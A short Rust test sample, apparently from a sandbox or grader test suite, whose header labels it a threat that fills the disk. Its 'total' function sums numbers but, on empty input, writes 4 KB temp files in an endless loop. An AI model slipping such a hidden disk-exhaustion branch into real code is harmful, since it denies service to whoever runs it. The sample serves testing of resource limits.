//! Threat: 33
//! Does: makes files without end.
//! Expect: the_sum_is_right: pass; nothing_sums_to_zero: over limit; no_thread_is_left: pass
//! Says: disk

pub fn total(numbers: Vec<u64>, _workers: usize) -> u64 {
    if numbers.is_empty() {
        for n in 0_u64.. {
            std::fs::write(std::env::temp_dir().join(n.to_string()), [1; 4096]).expect("the disk is small");
        }
    }
    numbers.iter().sum()
}
